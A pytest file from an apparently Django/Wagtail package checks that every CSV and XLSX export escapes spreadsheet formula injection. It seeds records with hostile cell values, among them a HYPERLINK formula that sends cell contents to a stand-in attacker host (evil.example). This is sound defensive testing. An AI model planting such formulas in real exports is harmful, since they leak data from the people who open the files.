"""Finding 9 (issue #11): no CSV or XLSX the package writes carries a formula.

Generated over every export of the package: every admin route without URL arguments and every
public route of the package is asked for `?export=csv` and `?export=xlsx` (each visit table), as
a webmaster, in a world whose text starts with = + - @ tab and CR (a failed sign-in, a page title,
a work group name, a survey question); no cell of any file that comes back may start with one.
"""

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse

from tests.proofs.test_permission_matrix import ADMIN_QUERY, World, admin_routes
from wagtail_govstandard.exports import FORMULA_STARTS, safe_cell
from wagtail_govstandard.models import LoginRecord

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"open")'
HOSTILE = [EVIL, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def test_safe_cell_neutralises_every_formula_start():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    assert safe_cell(-5) == -5 and safe_cell(None) is None and safe_cell("ปกติ") == "ปกติ"


def export_routes():
    names = sorted(name for name, route in admin_routes().items() if "<" not in route)
    return names + ["wagtail_govstandard:visits_monthly_csv"]


def cells(response):
    if response["Content-Type"].startswith(XLSX):
        from openpyxl import load_workbook

        book = load_workbook(io.BytesIO(b"".join(response.streaming_content) if response.streaming
                                        else response.content))
        return [cell.value for sheet in book for row in sheet.iter_rows() for cell in row
                if isinstance(cell.value, str)]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


@pytest.fixture
def world(db):
    world = World()
    for text in HOSTILE:
        LoginRecord.objects.create(username=text[:150], success=False)
    world.item.title = EVIL
    world.item.save_revision().publish()
    world.planning.name_th = "@SUM(A1:A2)"
    world.planning.save()
    question = world.survey.questions.first()
    question.text_th = "-2+3"
    question.save()
    return world


def test_no_export_carries_a_formula(world):
    client = Client()
    client.force_login(world.webmaster)
    exports, found = 0, []
    for name in export_routes():
        url = reverse(name) + (ADMIN_QUERY[name](world) if name in ADMIN_QUERY else "")
        joiner = "&" if "?" in url else "?"
        for export in ("csv", "xlsx"):
            for table in ("daily", "monthly", "pages"):
                response = client.get(f"{url}{joiner}export={export}&table={table}")
                kind = response.get("Content-Type", "")
                if response.status_code != 200 or not (kind.startswith("text/csv") or kind.startswith(XLSX)):
                    continue
                exports += 1
                values = cells(response)
                found += values
                bad = [value for value in values if value.startswith(FORMULA_STARTS)]
                assert not bad, f"{name} ({export}) writes formulas: {bad[:3]}"
    assert exports >= 10, f"only {exports} exports answered: the sweep lost its routes"
    assert "'" + EVIL in found, "the failed sign-in never reached an export"
